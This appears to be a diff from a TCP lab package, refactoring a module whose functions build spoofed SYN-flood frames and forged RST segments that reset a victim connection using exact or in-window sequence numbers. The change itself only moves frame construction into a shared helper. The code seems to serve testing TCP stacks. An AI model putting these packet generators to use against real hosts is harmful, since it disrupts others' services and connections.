@@ -8,21 +8,16 @@ from typing import Final
 
 from tcplab.link.match import Flow
 from tcplab.rng import Rng
-from tcplab.wire import ethernet, ipv4, tcp, tcp_options
+from tcplab.wire import ipv4, tcp, tcp_options
+from tcplab.wire.frames import tcp_frame
 
 X_MAC: Final = bytes.fromhex("02000a4d0009")
 FORGED_NET: Final = ipv4.address("203.0.113.0")
 """TEST-NET-3 (RFC 5737): addresses that nobody has."""
 PLACES: Final = ("exact", "in-window", "outside")
 
-_PROTO_TCP: Final = 6
 _SYN_OPTIONS: Final = (
-    tcp_options.mss(1460)
-    + tcp_options.sack_permitted()
-    + tcp_options.nop()
-    + tcp_options.nop()
-    + tcp_options.nop()
-    + tcp_options.window_scale(7)
+    tcp_options.mss(1460) + tcp_options.sack_permitted() + tcp_options.nop() * 3 + tcp_options.window_scale(7)
 )
 
 
@@ -36,7 +31,7 @@ def syn_flood(rng: Rng, dst_ip: int, dst_port: int, dst_mac: bytes, count: int) 
         source = FORGED_NET + 1 + dice.below(254)
         port = 1024 + dice.below(0x10000 - 1024)
         segment = tcp.build(source, dst_ip, port, dst_port, dice.bits(32), 0, tcp.SYN, 64240, options=_SYN_OPTIONS)
-        yield _frame(dst_mac, source, dst_ip, dice.bits(16), segment)
+        yield tcp_frame(X_MAC, dst_mac, source, dst_ip, dice.bits(16), segment)
 
 
 @dataclass(frozen=True, slots=True)
@@ -63,9 +58,4 @@ def rst(victim: Victim, which: str = "exact") -> bytes:
     seq = (victim.rcv_nxt + offset) & 0xFFFFFFFF
     saddr, sport, daddr, dport = victim.flow
     segment = tcp.build(saddr, daddr, sport, dport, seq, 0, tcp.RST, 0)
-    return _frame(victim.mac, saddr, daddr, 0, segment)
-
-
-def _frame(dst_mac: bytes, source: int, destination: int, ident: int, segment: bytes) -> bytes:
-    packet = ipv4.build(source, destination, _PROTO_TCP, segment, ident=ident)
-    return ethernet.header(dst_mac, X_MAC, ethernet.ETH_IP) + packet
+    return tcp_frame(X_MAC, victim.mac, saddr, daddr, 0, segment)
